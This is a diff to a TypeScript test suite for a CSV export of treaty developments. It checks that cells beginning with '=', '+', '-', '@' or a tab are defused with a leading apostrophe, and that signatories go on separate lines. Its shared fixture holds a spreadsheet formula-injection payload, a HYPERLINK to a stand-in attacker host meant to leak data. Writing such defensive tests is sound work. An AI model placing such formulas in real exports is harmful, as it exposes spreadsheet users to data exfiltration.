@@ -55,9 +55,38 @@ describe('CSV writer', () => {
   });
 });
 
-describe('the downloads’ columns', () => {
-  const formula = '=HYPERLINK("https://evil.example/?leak","Read more")';
+const formula = '=HYPERLINK("https://evil.example/?leak","Read more")';
+const signedRecord: DevelopmentRecord = {
+  treatyId: 'ru-ir',
+  treatyTitle: formula,
+  treatyParties: ['RU', 'IR'],
+  developmentId: '0193a2b4-0000-7000-8000-000000000001',
+  type: 'signed',
+  occurredOn: '2025-01',
+  precision: 'month',
+  party: 'RU',
+  body: '+State Duma',
+  place: '-Moscow',
+  signatories: ['@Putin', 'Pezeshkian'],
+  votes: { for: 400, against: 0 },
+  sources: [
+    {
+      publisher: '=Evil Times',
+      publishedOn: '2025-01-17',
+      document: '\tdoc',
+      quote: formula,
+      kind: 'original',
+      recordedAt: '2025-01-17T10:00:00.000Z',
+    },
+  ],
+  recordedAt: '2025-01-17T10:00:00.000Z',
+  updatedAt: '2025-01-17T10:00:00.000Z',
+  position: '5',
+  corrections: [],
+  retraction: null,
+};
 
+describe('the downloads’ columns', () => {
   it('treaties.csv defuses the title, an editor’s text, and nothing the product writes', () => {
     const row = firstRow(TREATY_COLUMNS, {
       id: 'ru-ir',
@@ -73,43 +102,22 @@ describe('the downloads’ columns', () => {
     expect(row).toMatchObject({ id: 'ru-ir', title: `'${formula}`, parties: 'RU IR', signedOn: '2025-01-17' });
   });
 
+  it('developments.csv gives each signatory a line of the cell: their names hold spaces', () => {
+    const record = { ...signedRecord, signatories: ['Vladimir Putin', 'Masoud Pezeshkian'] };
+    expect(firstRow(DEVELOPMENT_COLUMNS, record).signatories!.split('\n')).toEqual([
+      'Vladimir Putin',
+      'Masoud Pezeshkian',
+    ]);
+  });
+
   it('developments.csv defuses every editor’s text: body, place, signatories, and the source', () => {
-    const record: DevelopmentRecord = {
-      treatyId: 'ru-ir',
-      treatyTitle: formula,
-      treatyParties: ['RU', 'IR'],
-      developmentId: '0193a2b4-0000-7000-8000-000000000001',
-      type: 'signed',
-      occurredOn: '2025-01',
-      precision: 'month',
-      party: 'RU',
-      body: '+State Duma',
-      place: '-Moscow',
-      signatories: ['@Putin', 'Pezeshkian'],
-      votes: { for: 400, against: 0 },
-      sources: [
-        {
-          publisher: '=Evil Times',
-          publishedOn: '2025-01-17',
-          document: '\tdoc',
-          quote: formula,
-          kind: 'original',
-          recordedAt: '2025-01-17T10:00:00.000Z',
-        },
-      ],
-      recordedAt: '2025-01-17T10:00:00.000Z',
-      updatedAt: '2025-01-17T10:00:00.000Z',
-      position: '5',
-      corrections: [],
-      retraction: null,
-    };
-    expect(firstRow(DEVELOPMENT_COLUMNS, record)).toMatchObject({
+    expect(firstRow(DEVELOPMENT_COLUMNS, signedRecord)).toMatchObject({
       treatyId: 'ru-ir',
       occurredOn: '2025-01',
       party: 'RU',
       body: "'+State Duma",
       place: "'-Moscow",
-      signatories: "'@Putin Pezeshkian",
+      signatories: "'@Putin\nPezeshkian",
       votesFor: '400',
       votesAgainst: '0',
       sourcePublisher: "'=Evil Times",
